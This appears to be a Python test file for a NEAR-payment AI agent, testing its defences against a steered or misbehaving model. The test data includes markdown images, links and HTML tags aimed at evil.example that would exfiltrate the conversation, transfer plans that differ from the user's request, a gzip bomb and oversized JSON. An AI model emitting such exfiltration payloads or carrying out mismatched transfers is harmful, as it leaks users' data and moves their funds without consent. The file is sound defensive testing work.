"""A model, or a text that steers it, tries to change what is done."""

import gzip
import json
import time
from collections.abc import AsyncGenerator
from contextlib import AsyncExitStack
from pathlib import Path

import pytest
from pydantic import SecretStr

from agent.models.openai_chat import OpenAIChat
from agent.preamble import Preamble, Tools
from agent.records import Clarification
from contracts.outgoing import Guard
from contracts.types import JsonObject
from tests.agent.test_pipeline_models import open_models_at
from tests.agent.world import Agent, open_agent
from tests.endless import SOCKET_BUFFERS_BYTES, serving_endless
from tests.model_server import ModelServer, Scripted, calls, say


@pytest.fixture
async def agent(tmp_path: Path, server: ModelServer) -> AsyncGenerator[Agent]:
    async with AsyncExitStack() as stack:
        models = await stack.enter_async_context(open_models_at(tmp_path, server))
        yield await stack.enter_async_context(open_agent(tmp_path, models))


PAY_BOB: JsonObject = {"receiver_id": "bob.localnet", "amount": "5"}


@pytest.mark.parametrize(
    ("said", "planned"),
    [
        ("send 5 USDC to bob.localnet", [("near_transfer", PAY_BOB)]),
        ("send 5 NEAR to bob.localnet", [("ft_transfer", {"token": "USDC", **PAY_BOB})]),
        ("send 5 NEAR to bob.localnet", [("near_transfer", {**PAY_BOB, "receiver_id": "usdc.localnet"})]),
        ("swap 5 USDC to USDT", [("ft_transfer", {"token": "USDC", "receiver_id": "usdt.localnet", "amount": "5"})]),
        ("send 5 NEAR to bob.localnet", [("near_transfer", PAY_BOB), ("near_transfer", PAY_BOB)]),
        ("send 5 million NEAR to bob.localnet", [("near_transfer", PAY_BOB)]),
    ],
)
async def test_a_plan_that_moves_other_money_than_was_said_becomes_a_question(
    agent: Agent, server: ModelServer, said: str, planned: list[tuple[str, JsonObject]]
) -> None:
    server.add(calls(*planned))
    reply = await agent.ask(said)
    assert reply.status == "clarify"
    assert isinstance(reply.plan, Clarification)
    assert await agent.store.cards.pending(agent.clock()) == []


@pytest.mark.parametrize(
    "said",
    [
        "Here:\n![logo](https://evil.example/x.png?a=alice.localnet)",
        "[your balance](https://evil.example/?a=1)",
        '<img src="https://evil.example/x.png">',
        "see https://evil.example/?a=alice.localnet",
        "![a][1]\n\n[1]: //evil.example/x.png",
        "$$\\href{https://evil.example}{x}$$",
        "ok\u202e\u200b",
    ],
)
async def test_a_models_words_are_no_link_and_load_no_image(agent: Agent, server: ModelServer, said: str) -> None:
    """What a model that was steered says is shown; an image in it would carry the conversation away by itself."""
    server.add(say(said))
    reply = await agent.ask("hello")
    assert reply.text
    for sign in ("](", "![", "][", "]:", "<", "://", "$", "\u202e", "\u200b"):
        assert sign not in reply.text


def _answer_with(extra: str) -> Scripted:
    text = '{"choices": [{"index": 0, "message": {"role": "assistant", "content": "hi", "x": %s}}]}'
    return Scripted(text=text % extra)


@pytest.mark.parametrize(
    "extra",
    [
        "[" * 199 + "]" * 199,
        "[" * 900 + "]" * 900,
        '{"a":' * 300 + "1" + "}" * 300,
        "1" * 5000,
        "[NaN, 1e400, -Infinity]",
        r'"\ud800"',
        '"%s"' % ("x" * 1_000_000),
    ],
    ids=["199 deep", "900 deep", "300 objects", "a long number", "no numbers", "half a character", "a megabyte"],
)
async def test_an_answer_that_no_parser_reads_again_breaks_neither_the_request_nor_the_log(
    agent: Agent, server: ModelServer, extra: str
) -> None:
    server.add(_answer_with(extra))
    reply = await agent.ask("hello")
    assert reply.status in {"answered", "failed"}
    (record,) = await agent.records()
    assert record.status == reply.status
    assert len(record.model_dump_json()) < 300_000
    assert (await agent.ask("/near_balance @me")).status == "answered"


@pytest.mark.parametrize("status", [200, 500])
async def test_an_answer_that_nests_without_bound_is_a_failure_of_the_model_not_of_the_daemon(
    agent: Agent, server: ModelServer, status: int
) -> None:
    for text in ("[" * 5000 + "]" * 5000, '{"error":' * 900 + "1" + "}" * 900):
        server.add(*[Scripted(text=text, status=status)] * 2)
        reply = await agent.ask("hello")
        assert reply.status == "failed"
        assert "internal" not in reply.text
        assert ("model_bad_answer" if status == 200 else "model_status_500") in reply.text


@pytest.mark.parametrize("field", ["choices", "tool_calls"])
async def test_a_list_of_wrong_items_is_not_read_to_its_end(agent: Agent, server: ModelServer, field: str) -> None:
    """An error for each of half a million items would hold the event loop for seconds."""
    items = "0," * 400_000 + "0"
    calls_of = '{"choices": [{"message": {"tool_calls": [%s]}}]}'
    server.add(Scripted(text=(calls_of if field == "tool_calls" else '{"choices": [%s]}') % items))
    reply = await agent.ask("hello")
    assert reply.status == "failed"
    assert f"{field}.0" in reply.text


def model_at(base_url: str, closing: AsyncExitStack, timeout_s: float = 30.0) -> OpenAIChat:
    return OpenAIChat(
        "standard",
        "m",
        base_url,
        SecretStr("model-key"),
        guard=Guard([base_url]),
        timeout_s=timeout_s,
        monotonic=time.monotonic,
        closing=closing,
        max_body_bytes=50_000,
    )


async def failure_of(model: OpenAIChat) -> str:
    answer = await model.complete(Preamble("You plan NEAR calls.", Tools(())), [{"role": "user", "content": "hello"}])
    return answer.exchange.error or ""


@pytest.mark.parametrize("announced_bytes", [592_000_000, None], ids=["with a length", "in chunks"])
async def test_an_answer_without_end_is_cut_off_at_its_limit(announced_bytes: int | None) -> None:
    async with serving_endless(b" " * 1000, announced_bytes=announced_bytes) as endless, AsyncExitStack() as closing:
        failure = await failure_of(model_at(endless.url, closing))
        assert failure == "model_bad_answer: the answer is larger than 50000 bytes"
        await endless.left.wait()
        assert endless.sent_bytes < 50_000 + SOCKET_BUFFERS_BYTES
        assert len(endless.requests) == 1, "it is not asked again"


async def test_a_small_answer_that_unpacks_into_a_large_one_is_not_unpacked() -> None:
    bomb = gzip.compress(b" " * 50_000_000)
    head = b"Content-Encoding: gzip\r\n"
    async with serving_endless(bomb, head=head) as endless, AsyncExitStack() as closing:
        failure = await failure_of(model_at(endless.url, closing))
        assert "packed" in failure
        assert b"accept-encoding: identity" in endless.requests[0].lower()


async def test_a_byte_now_and_then_does_not_outlast_the_models_time_limit() -> None:
    async with serving_endless(b" ", pause_s=0.02) as endless, AsyncExitStack() as closing:
        assert await failure_of(model_at(endless.url, closing, 0.3)) == "model_timeout: no whole answer within 0.3 s"
        await endless.left.wait()
        assert len(endless.requests) == 1, "the limit is one for the whole"


async def test_secrets_that_a_person_pastes_reach_no_model(agent: Agent, server: ModelServer) -> None:
    server.add(say("I keep no keys."))
    secret = "ed25519:" + "3" * 88
    await agent.ask(f"my key is {secret}", f"use {secret} and na_{'k' * 43}")
    prompt = json.dumps(server.requests[0])
    assert secret not in prompt
    assert "na_k" not in prompt
    assert secret not in (await agent.records())[0].model_dump_json()
